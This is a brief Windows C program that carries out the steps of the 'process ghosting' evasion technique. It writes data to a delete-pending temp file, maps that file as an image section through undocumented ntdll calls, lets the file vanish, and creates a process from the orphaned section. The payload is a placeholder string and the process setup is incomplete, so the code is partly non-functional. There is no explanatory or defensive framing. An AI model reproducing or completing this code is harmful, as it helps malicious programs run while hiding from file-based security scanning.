/* Makes a process of a section whose file is deleted by then. */
#include <windows.h>
#include <winternl.h>
typedef LONG(NTAPI *Native)();
int main(void) {
    HMODULE native = GetModuleHandleA("ntdll.dll");
    HANDLE section = NULL, process = NULL;
    DWORD count;
    FILE_DISPOSITION_INFO gone = {TRUE};
    HANDLE file = CreateFileA("C:\\Users\\anna\\AppData\\Local\\Temp\\a.tmp", GENERIC_READ | GENERIC_WRITE | DELETE, 7, NULL, CREATE_ALWAYS, 0, NULL);
    SetFileInformationByHandle(file, FileDispositionInfo, &gone, sizeof gone);
    WriteFile(file, "MZ and more", 11, &count, NULL);
    ((Native)GetProcAddress(native, "NtCreateSection"))(&section, SECTION_ALL_ACCESS, NULL, NULL, PAGE_READONLY, SEC_IMAGE, file);
    CloseHandle(file);
    ((Native)GetProcAddress(native, "NtCreateProcessEx"))(&process, PROCESS_ALL_ACCESS, NULL, GetCurrentProcess(), 4, section, NULL, NULL, 0);
    return process ? 0 : 1;
}
